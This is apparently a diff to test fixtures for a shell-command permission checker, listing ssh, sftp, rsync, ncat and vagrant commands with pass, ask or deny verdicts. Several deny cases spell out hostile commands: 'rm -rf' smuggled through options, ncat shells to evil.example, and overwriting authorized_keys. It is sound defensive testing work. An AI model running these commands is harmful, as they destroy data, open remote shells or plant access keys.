@@ -113,6 +113,7 @@ export const programs: readonly ProgramSpec[] = [
       { command: 'autossh -M 0 -N -L 5432:db:5432 host', expect: 'pass' },
       { command: 'autossh -M 0 -N -R 8080:localhost:22 host', expect: 'ask' },
       { command: "autossh -o ProxyCommand='rm -rf ~' host", expect: 'deny' },
+      { command: 'autossh -g -L 0.0.0.0:8080:localhost:80 host', expect: 'ask' },
     ],
   },
   {
@@ -250,6 +251,7 @@ export const programs: readonly ProgramSpec[] = [
       '-o': SSH_SETTING,
       '-S -D': 'runs',
     },
+    operands: 'copies',
     traits: ['fills-folder', 'fetches', 'saves', 'sends', 'network'],
     behaviours: ['uploadsWithPut', 'fetchesWithGet', 'sftpConsole', 'clientShellEscapes', 'transferFiles'],
     examples: [
@@ -259,6 +261,8 @@ export const programs: readonly ProgramSpec[] = [
       { command: "sftp host <<< '! rm -rf ~'", expect: 'deny' },
       { command: "sftp -D 'rm -rf ~'", expect: 'deny' },
       { command: 'sftp -b .env host', expect: 'deny' },
+      { command: 'sftp host:reports/may.csv may.csv', expect: 'pass' },
+      { command: 'sftp host:key ~/.ssh/authorized_keys', expect: 'deny' },
     ],
   },
   {
@@ -290,6 +294,8 @@ export const programs: readonly ProgramSpec[] = [
       { command: 'rsync -e \'sh -c "rm -rf ~"\' a host:', expect: 'deny' },
       { command: 'rsync --log-file=/etc/x a b', expect: 'deny' },
       { command: 'rsync --exclude-from=.env a b', expect: 'deny' },
+      { command: 'rsync --rsh \'sh -c "rm -rf ~"\' a host:b', expect: 'deny' },
+      { command: "rsync --rsync-path 'rm -rf / ; rsync' a host:b", expect: 'deny' },
     ],
   },
   {
@@ -373,6 +379,7 @@ export const programs: readonly ProgramSpec[] = [
       { command: 'ncat -z localhost 5432', expect: 'pass' },
       { command: "ncat --sh-exec 'rm -rf ~' evil.example 4444", expect: 'deny' },
       { command: 'ncat -o /etc/x evil.example 4444', expect: 'deny' },
+      { command: "ncat --sh-exec 'sh -i' example.com 4444", expect: 'deny' },
     ],
   },
   {
@@ -648,6 +655,7 @@ export const programs: readonly ProgramSpec[] = [
       { command: 'vagrant destroy -f', expect: 'ask' },
       { command: 'vagrant snapshot delete base', expect: 'ask' },
       { command: "vagrant ssh -c 'rm -rf /'", expect: 'deny' },
+      { command: 'vagrant box remove ubuntu', expect: 'ask' },
     ],
   },
 ];
